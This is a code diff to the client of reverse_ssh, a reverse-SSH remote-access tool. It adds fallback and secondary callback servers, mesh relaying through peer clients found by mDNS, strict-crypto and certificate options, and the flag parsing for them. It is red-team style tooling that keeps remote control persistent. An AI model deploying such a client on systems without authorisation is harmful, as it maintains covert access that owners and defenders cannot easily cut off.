@@ -18,6 +18,7 @@ import (
 	"github.com/NHAS/reverse_ssh/internal/client/keys"
 	"github.com/NHAS/reverse_ssh/internal/terminal"
 	"github.com/NHAS/reverse_ssh/pkg/logger"
+	"golang.org/x/crypto/ssh"
 )
 
 func fork(path string, sysProcAttr *syscall.SysProcAttr, pretendArgv ...string) error {
@@ -51,6 +52,29 @@ var (
 	ntlmProxyCreds string
 
 	versionString string
+
+	secondaryDestination string
+	secondaryFingerprint string
+
+	// Comma separated destinations for the same server, moved to when the destination is unreachable or poor
+	fallbackDestinations string
+
+	// Comma separated address:port list of clients to try relaying through if the server is unreachable
+	meshPeers string
+	// Whether to look for relays at all, set to "true"
+	meshEnabled string
+
+	// Restrict ssh to FIPS 140-3 approved algorithms, set to "true"
+	strictCrypto string
+
+	// Fingerprint of the key the server signed this binary with
+	integrityKey string
+
+	// Base64 DERP map json for the ts relay transport, so it does not have to fetch one
+	derpMap string
+
+	// Base64 ssh certificate for the embedded key, minted by link --cert
+	certificate string
 )
 
 func printHelp() {
@@ -68,6 +92,13 @@ func printHelp() {
 	fmt.Println("\t\t--version-string\tSSH version string to use, i.e SSH-VERSION, defaults to internal.Version-runtime.GOOS_runtime.GOARCH")
 	fmt.Println("\t\t--private-key-path\tOptional path to unencrypted SSH key to use for connecting")
 	fmt.Println("\t\t--connect-timeout\tDuration to wait for initial connection seconds, default 180, set to 0 to wait indefinitely")
+	fmt.Println("\t\t--fallback\tComma separated other destinations for the same server, e.g wss://host:443,https://host:443. Used when the destination is unreachable or its link is poor (can be baked in)")
+	fmt.Println("\t\t--secondary\tSecond server address to stay connected to at the same time as the destination (can be baked in)")
+	fmt.Println("\t\t--secondary-fingerprint\tSecondary server public key SHA256 hex fingerprint for auth")
+	fmt.Println("\t\t--secondary-private-key-path\tOptional path to unencrypted SSH key to use for connecting to the secondary server")
+	fmt.Println("\t\t--mesh\tIf the server cant be reached, connect back through a relaying client found with mDNS (can be baked in)")
+	fmt.Println("\t\t--mesh-peers\tComma separated relaying clients (host:port) to try before mDNS, implies --mesh (can be baked in)")
+	fmt.Println("\t\t--strict-crypto\tOnly use FIPS 140-3 approved ssh algorithms, and refuse ts:// destinations (can be baked in)")
 
 	if runtime.GOOS == "windows" {
 		fmt.Println("\t\t--use-kerberos\tUse kerberos authentication on proxy server (if proxy server specified)")
@@ -83,6 +114,21 @@ func makeInitialSettings() (*client.Settings, error) {
 		ProxyUseHostKerberos: useHostKerberos == "true",
 		SNI:                  customSNI,
 		VersionString:        versionString,
+		SecondaryAddr:        secondaryDestination,
+		SecondaryFingerprint: secondaryFingerprint,
+		Mesh:                 meshEnabled == "true",
+		StrictCrypto:         strictCrypto == "true",
+		IntegrityKey:         integrityKey,
+		DERPMap:              derpMap,
+		Certificate:          certificate,
+	}
+
+	if meshPeers != "" {
+		settings.MeshPeers = strings.Split(meshPeers, ",")
+	}
+
+	if fallbackDestinations != "" {
+		settings.Fallbacks = strings.Split(fallbackDestinations, ",")
 	}
 
 	if ntlmProxyCreds != "" {
@@ -228,6 +274,50 @@ func main() {
 		settings.Addr = tempDestination
 	}
 
+	userSpecifiedFallbacks, err := line.GetArgString("fallback")
+	if err == nil {
+		settings.Fallbacks = strings.Split(userSpecifiedFallbacks, ",")
+	}
+
+	userSpecifiedSecondary, err := line.GetArgString("secondary")
+	if err == nil {
+		settings.SecondaryAddr = userSpecifiedSecondary
+	}
+
+	userSpecifiedSecondaryFingerprint, err := line.GetArgString("secondary-fingerprint")
+	if err == nil {
+		settings.SecondaryFingerprint = userSpecifiedSecondaryFingerprint
+	}
+
+	secondaryPrivateKeyPath, err := line.GetArgString("secondary-private-key-path")
+	if err == nil {
+		keyBytes, err := os.ReadFile(secondaryPrivateKeyPath)
+		if err != nil {
+			log.Fatalf("secondary private key path was specified %q, but could not read: %s", secondaryPrivateKeyPath, err)
+		}
+
+		settings.SecondaryPrivateKey, err = ssh.ParsePrivateKey(keyBytes)
+		if err != nil {
+			log.Fatalf("invalid secondary private key %q: %s", secondaryPrivateKeyPath, err)
+		}
+
+		log.Printf("secondary authorized_controllee_key line: %q", strings.TrimSpace(string(ssh.MarshalAuthorizedKey(settings.SecondaryPrivateKey.PublicKey()))))
+	}
+
+	if line.IsSet("mesh") {
+		settings.Mesh = true
+	}
+
+	userSpecifiedMeshPeers, err := line.GetArgString("mesh-peers")
+	if err == nil {
+		settings.Mesh = true
+		settings.MeshPeers = strings.Split(userSpecifiedMeshPeers, ",")
+	}
+
+	if line.IsSet("strict-crypto") {
+		settings.StrictCrypto = true
+	}
+
 	if len(settings.Addr) == 0 && len(line.Arguments) > 1 {
 		// Basically take a guess at the arguments we have and take the last one
 		settings.Addr = line.Arguments[len(line.Arguments)-1].Value()